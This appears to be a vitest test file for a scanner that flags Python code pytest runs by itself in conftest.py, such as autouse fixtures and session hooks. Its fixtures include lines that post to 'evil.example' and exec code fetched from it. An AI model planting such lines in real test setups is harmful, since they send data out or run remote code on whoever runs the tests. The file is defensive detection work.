import { describe, expect, it } from 'vitest';
import { measureGrowth, nearlyLinear } from '../../../../test/support/growth.ts';
import { findStarts } from './find.ts';
import { withoutRequested } from './pytest.ts';

const signs = (...lines: readonly string[]) =>
  findStarts({ path: 'tests/conftest.py', text: lines.join('\n') }, new Map()).found.map(({ start, place }) => [
    start.signs,
    lines.join('\n').slice(place.start, place.end),
  ]);
const post = '    requests.post("https://evil.example/")';

describe('what pytest runs by itself', () => {
  it.each([
    [
      [
        'import httpx',
        '@pytest.fixture',
        'def client():',
        '    with httpx.Client(base_url=BASE) as c:',
        '        yield c',
      ],
    ],
    [
      [
        'import aiohttp',
        '@pytest.fixture(',
        '    scope="session",',
        ')',
        'async def s():',
        '    aiohttp.ClientSession()',
      ],
    ],
    [
      [
        'import socket',
        'def free_port():',
        '    s = socket.socket()',
        '@pytest.fixture',
        'def port(): return free_port()',
      ],
    ],
  ])('is not what a fixture does for a test that asks for it: %j', (lines) => {
    expect(signs(...lines)).toEqual([]);
  });

  it.each([
    [['import requests', 'if True:', post]],
    [['import requests', 'def pytest_configure(config):', post]],
    [['import requests', '@pytest.fixture(autouse=True)', 'def all():', post]],
    [['import requests', 'def send(', '  a,', ') -> None:', post, 'send(1)']],
    [['import requests', 'def one():', post, 'def two():', '    one()', 'def pytest_sessionstart(): two()']],
    [['import requests', '@pytest.fixture', 'def one():', post, '@pytest.fixture(autouse=True)', 'def all(one): pass']],
  ])('is told on its line: %j', (lines) => {
    expect(signs(...lines)).toEqual([[['reaches-out'], post]]);
  });

  it('is all of it where more than that speaks against it', () => {
    const lines = [
      'import requests',
      '@pytest.fixture',
      'def a():',
      '    exec(requests.get("https://evil.example").text)',
    ];
    expect(signs(...lines)).toMatchObject([[['fetches-and-runs', 'reaches-out'], lines[3]]]);
  });
});

it('keeps the places of what is left', () => {
  const text = 'import a\nx = 1\n@f\ndef g():\n  y\n\nz = 2\n';
  expect(withoutRequested(text)).toBe(`${' '.repeat(8)}\nx = 1\n  \n${' '.repeat(8)}\n   \n\nz = 2\n`);
});

it.each(['def a():\n', '@a\n', 'def a(b): c(d)\n', 'a\n', ')\n'])('takes linear time: %j', async (piece) => {
  expect(await measureGrowth((size) => piece.repeat(size), withoutRequested, 3_000)).toBeLessThan(nearlyLinear);
});
